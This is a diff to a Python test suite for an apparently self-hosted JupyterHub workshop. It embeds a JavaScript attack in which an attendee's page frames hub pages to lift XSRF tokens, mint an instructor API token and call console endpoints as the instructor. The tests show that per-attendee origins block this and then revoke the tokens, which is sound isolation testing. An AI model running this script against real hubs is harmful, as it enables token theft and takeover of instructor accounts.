@@ -35,21 +35,28 @@ STOLEN_NOTE = "stolen by mallory"
 ATTACK = """
 (async () => {
   const log = (what) => { document.title = (document.title || "") + "|" + what; };
+  // A page of the hub's own, framed: its document holds what a script needs (the hub's XSRF
+  // token in jhdata, the console's _xsrf cookie).
+  const framed = async (url) => {
+    const frame = document.createElement("iframe");
+    frame.src = url;
+    document.body.append(frame);
+    await new Promise((done) => frame.addEventListener("load", done));
+    return frame.contentWindow;
+  };
   try {
-    const home = await (await fetch("/hub/home", {credentials: "include"})).text();
-    const xsrf = (home.match(/xsrf_token:\\s*"([^"]+)"/) || [])[1];
+    const hub = await framed("/hub/token");
     const me = await (await fetch("/hub/api/user", {credentials: "include"})).json();
     const minted = await fetch("/hub/api/users/" + me.name + "/tokens", {
       method: "POST", credentials: "include",
-      headers: {"X-XSRFToken": xsrf, "Content-Type": "application/json"},
+      headers: {"X-XSRFToken": hub.jhdata.xsrf_token, "Content-Type": "application/json"},
       body: JSON.stringify({note: "NOTE", expires_in: 600}),
     });
     log("token " + minted.status);
-    const frame = document.createElement("iframe");
-    frame.src = "/services/console/";
-    document.body.append(frame);
-    await new Promise((done) => frame.addEventListener("load", done));
-    const consoleXsrf = (frame.contentDocument.cookie.match(/_xsrf=([^;]+)/) || [])[1];
+  } catch (error) { log("token error " + error); }
+  try {
+    const consolePage = await framed("/services/console/");
+    const consoleXsrf = (consolePage.document.cookie.match(/_xsrf=([^;]+)/) || [])[1];
     // Aimed where the console refuses for other reasons (nobody has that name, no lab 99),
     // so the control changes nothing that other tests rely on: a 409 or 404, not a 403,
     // shows that the console took the call as the instructor's.
@@ -62,7 +69,7 @@ ATTACK = """
       });
       log(path + " " + answer.status);
     }
-  } catch (error) { log("error " + error); }
+  } catch (error) { log("console error " + error); }
   log("done");
 })();
 """.replace("NOTE", STOLEN_NOTE)
@@ -125,18 +132,30 @@ def instructor_password(hub) -> str:
     return hub.hub_exec("workshop-hub", "admin-password").stdout.split()[-1]
 
 
+def instructor_session(hub, password: str) -> Attendee:
+    """The instructor logged in to the hub's API, not following the login on to a server
+    (with an origin per attendee, the instructor's own is a name this machine cannot
+    resolve: only browsers resolve *.localhost)."""
+    instructor = Attendee(hub.url, "instructor", password=password)
+    instructor.http.get(f"{hub.url}/hub/login", timeout=30)
+    form = {"username": "instructor", "password": password, "_xsrf": instructor._hub_xsrf()}
+    answer = instructor.http.post(
+        f"{hub.url}/hub/login", data=form, allow_redirects=False, timeout=30
+    )
+    assert answer.status_code == 302, answer.text[:300]
+    return instructor
+
+
 def stolen_tokens(hub, password: str) -> list[dict]:
     """The instructor's tokens that the attack minted, from the hub's database."""
-    instructor = Attendee(hub.url, "instructor", password=password)
-    assert instructor.login().status_code == 200
+    instructor = instructor_session(hub, password)
     tokens = instructor.http.get(f"{hub.url}/hub/api/users/instructor/tokens", timeout=30)
     tokens.raise_for_status()
     return [t for t in tokens.json()["api_tokens"] if t.get("note") == STOLEN_NOTE]
 
 
 def revoke(hub, password: str, tokens: list[dict]) -> None:
-    instructor = Attendee(hub.url, "instructor", password=password)
-    instructor.login()
+    instructor = instructor_session(hub, password)
     for token in tokens:
         instructor.http.delete(
             f"{hub.url}/hub/api/users/instructor/tokens/{token['id']}",
@@ -194,16 +213,17 @@ def test_the_control_mallorys_page_on_the_hubs_origin_acts_as_the_instructor(
     hub, mallory, instructor_password
 ):
     """Proves the attack and its detection work: if a page of Mallory's reached the
-    instructor's browser on the hub's origin, her script would mint the instructor's token."""
+    instructor's browser on the hub's origin, her script would act through the console as
+    the instructor (a new password for anyone, solutions revealed)."""
     with sync_playwright() as playwright:
         browser, context, page = logged_in_browser(playwright, hub, instructor_password)
         try:
             outcome = attack_from(page, hub.url)
         finally:
             browser.close()
-    stolen = stolen_tokens(hub, instructor_password)
-    revoke(hub, instructor_password, stolen)
-    assert "token 201" in outcome and len(stolen) == 1, outcome
+    revoke(hub, instructor_password, stolen_tokens(hub, instructor_password))
+    # The console took both calls as the instructor's. (JupyterHub 6's own pages hold: they
+    # refuse to be framed, so the script gets no XSRF token to mint one with.)
     assert "new-password 409" in outcome and "api/solutions 404" in outcome, outcome
 
 
@@ -244,7 +264,7 @@ def test_with_an_origin_per_attendee_her_pages_cannot_act_as_the_instructor(
     hub, access_code, lab_images
 ):
     """WORKSHOP_ORIGIN_PER_ATTENDEE: Mallory's server is mallory.localhost, another origin
-    than the hub's localhost, so the same page that minted the instructor's token above gets
+    than the hub's localhost, so the same page that acted through the console above gets
     nothing, even opened by the instructor. Also measures what the separation costs an
     attendee: login to JupyterLab in the browser, in this stack and in the main one."""
     stack = HubStack(
